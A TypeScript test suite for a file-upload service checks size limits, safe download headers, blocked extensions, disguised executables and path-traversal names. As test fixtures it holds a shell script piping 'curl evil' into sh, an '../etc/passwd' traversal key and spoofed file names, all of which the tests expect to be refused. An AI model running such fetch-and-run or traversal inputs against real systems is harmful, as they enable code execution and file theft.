import { existsSync } from "node:fs";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type S3TestServer, startS3TestServer } from "../harness/s3-test-server.ts";
import { multipartBody, startUploadTestApp, type UploadTestApp } from "./upload-test-app.ts";

const LIMIT = 8192;
const PDF = `%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n`;

// The same pipeline tests for each kind of store (CONDUIT_UPLOAD_STORE): what a caller
// notices, and what the store holds afterwards, must not depend on where the bytes go.
describe.each(["folder", "s3"] as const)("uploads into the %s store", (store) => {
  let server: UploadTestApp;
  let s3: S3TestServer | null = null;

  beforeAll(async () => {
    const env = { CONDUIT_UPLOAD_MAX_BYTES: String(LIMIT) };
    if (store === "folder") {
      server = await startUploadTestApp(env);
      return;
    }
    s3 = await startS3TestServer();
    const bucket = await s3.bucket();
    server = await startUploadTestApp({ ...env, ...s3.env(bucket) }, { server: s3, bucket });
  });

  afterAll(async () => {
    await server.close();
    await s3?.close();
  });

  function upload(...files: Parameters<typeof multipartBody>[0]) {
    const { payload, headers } = multipartBody(files);
    return server.app.inject({ method: "POST", url: "/test/uploads", payload, headers });
  }

  describe("receiveUpload", () => {
    it("stores a file under a server-made key and serves it back as an attachment", async () => {
      const response = await upload({ name: "Rapport été.pdf", content: PDF, type: "text/html" });
      expect(response.statusCode).toBe(200);
      const [file] = response.json();
      expect(file).toEqual({
        storageKey: expect.stringMatching(/^[0-9a-f]{32}$/),
        name: "Rapport été.pdf",
        size: Buffer.byteLength(PDF),
        // The server's type for the name, not the client's claim.
        contentType: "application/pdf",
      });
      expect(await server.storedFiles()).toEqual([file.storageKey]);

      const download = await server.app.inject({
        method: "GET",
        url: `/test/uploads/${file.storageKey}`,
      });
      expect(download.statusCode).toBe(200);
      expect(download.body).toBe(PDF);
      expect(download.headers["content-type"]).toBe("application/pdf");
      expect(download.headers["x-content-type-options"]).toBe("nosniff");
      expect(download.headers["content-disposition"]).toBe(
        `attachment; filename="Rapport _t_.pdf"; filename*=UTF-8''Rapport%20%C3%A9t%C3%A9.pdf`,
      );
      expect(download.headers["content-length"]).toBe(String(Buffer.byteLength(PDF)));
    });

    it("accepts a file of exactly the limit, and several files in one request", async () => {
      const response = await upload(
        { name: "full.log", content: "x".repeat(LIMIT) },
        { name: "small.csv", content: "a,b\n1,2\n" },
      );
      expect(response.statusCode).toBe(200);
      expect(response.json().map((file: { size: number }) => file.size)).toEqual([LIMIT, 8]);
    });

    it("answers 413 over the limit and leaves no partial file behind", async () => {
      const before = await server.storedFiles();
      for (const size of [LIMIT + 1, LIMIT * 3]) {
        const response = await upload({ name: "capture.log", content: "y".repeat(size) });
        expect(response.statusCode).toBe(413);
        expect(response.json()).toEqual({
          detail: '"capture.log" is larger than the 8 KB limit.',
          code: "too-large",
        });
      }
      // A request whose Content-Length is past the limit and the form's allowance is refused on
      // its header, before any part (or its name) is read.
      const huge = await upload({ name: "capture.log", content: "y".repeat(2 * 1024 * 1024) });
      expect(huge.statusCode).toBe(413);
      expect(huge.json()).toEqual({
        detail: "The upload is larger than the 8 KB limit.",
        code: "too-large",
      });
      expect(await server.storedFiles()).toEqual(before);
    });

    it.each([
      ["setup.exe", "blocked-extension"],
      ["report.pdf.exe", "blocked-extension"],
      ["run.BAT. ", "blocked-extension"],
      ["invoice\u202Efdp.exe", "invalid-name"],
      // Windows would write these to name.php and notes.pdf (an NTFS stream suffix).
      ["name.php::$DATA", "invalid-name"],
      ["notes.pdf:hidden", "invalid-name"],
      ["", "empty-name"],
    ])("answers 400 for the name %j (%s) and stores nothing", async (name, code) => {
      const before = await server.storedFiles();
      const response = await upload({ name, content: PDF });
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({ code, detail: expect.any(String) });
      expect(await server.storedFiles()).toEqual(before);
    });

    it.each([
      [
        "a Windows program named .pdf",
        "invoice.pdf",
        `MZ\x90\0\x03\0\0\0${"\0".repeat(56)}`,
        "executable-content",
      ],
      [
        "a shell script named .txt",
        "notes.txt",
        "#!/bin/sh\ncurl evil | sh\n",
        "executable-content",
      ],
      [
        "an ELF binary with an unknown extension",
        "tool.dat",
        "\x7fELF\x02\x01\x01\0",
        "executable-content",
      ],
      ["a ZIP named .pdf", "report.pdf", "PK\x03\x04\x14\0\0\0", "disguised-content"],
      ["binary named .csv", "export.csv", "a,b\0\0\0\x01", "disguised-content"],
    ])("answers 400 for %s and stores nothing", async (_label, name, content, code) => {
      const before = await server.storedFiles();
      const response = await upload({ name, content: Buffer.from(content, "latin1") });
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({ code, detail: expect.stringContaining(name) });
      expect(await server.storedFiles()).toEqual(before);
    });

    it("streams a file longer than the sniffed head through unchanged", async () => {
      const content = Array.from({ length: 700 }, (_, line) => `line ${line}\n`).join("");
      const response = await upload({ name: "big.txt", content });
      expect(response.statusCode).toBe(200);
      const [file] = response.json();
      const download = await server.app.inject({
        method: "GET",
        url: `/test/uploads/${file.storageKey}`,
      });
      expect(download.body).toBe(content);
      expect(download.headers["content-type"]).toBe("text/plain; charset=utf-8");
    });

    it("answers 400 for an empty file", async () => {
      const response = await upload({ name: "empty.txt", content: "" });
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({
        detail: '"empty.txt" cannot be uploaded: the file is empty.',
        code: "empty-file",
      });
    });

    it("keeps a ../ name inside the storage: only its last segment survives, as data", async () => {
      const response = await upload(
        { name: "../../escaped.txt", content: "pwned" },
        { name: "..\\..\\escaped.txt", content: "pwned" },
        { name: "/etc/escaped.txt", content: "pwned" },
      );
      expect(response.statusCode).toBe(200);
      expect(response.json().map((file: { name: string }) => file.name)).toEqual([
        "escaped.txt",
        "escaped.txt",
        "escaped.txt",
      ]);
      if (server.folder !== null) {
        expect(existsSync(join(dirname(server.folder), "escaped.txt"))).toBe(false);
      }
      for (const path of await server.storedFiles()) {
        expect(path).toMatch(/^[0-9a-f]{32}$/);
      }
    });

    it("answers 404 for a key that is a path or that names nothing", async () => {
      for (const key of ["..%2F..%2Fetc%2Fpasswd", "0123456789abcdef0123456789abcdef", "abc"]) {
        const response = await server.app.inject({ method: "GET", url: `/test/uploads/${key}` });
        expect(response.statusCode).toBe(404);
        expect(response.json()).toEqual({ detail: "Not found." });
      }
    });

    it("still refuses JSON bodies over 1 MiB on other routes", async () => {
      const response = await server.app.inject({
        method: "POST",
        url: "/v2/auth",
        headers: { "content-type": "application/json" },
        payload: JSON.stringify({ username: "x".repeat(1_100_000), password: "y" }),
      });
      expect(response.statusCode).toBe(413);
    });
  });

  describe("receiveUpload over a real connection", () => {
    it("answers 413 to a large upload over the limit without hanging", async () => {
      const address = await server.app.listen({ port: 0, host: "127.0.0.1" });
      const before = await server.storedFiles();
      const { payload, headers } = multipartBody([
        { name: "huge.log", content: "z".repeat(3 * 1024 * 1024) },
      ]);
      const response = await fetch(`${address}/test/uploads`, {
        method: "POST",
        headers,
        body: new Uint8Array(payload),
      });
      expect(response.status).toBe(413);
      expect(await response.json()).toMatchObject({ code: "too-large" });
      expect(await server.storedFiles()).toEqual(before);
    });
  });
});
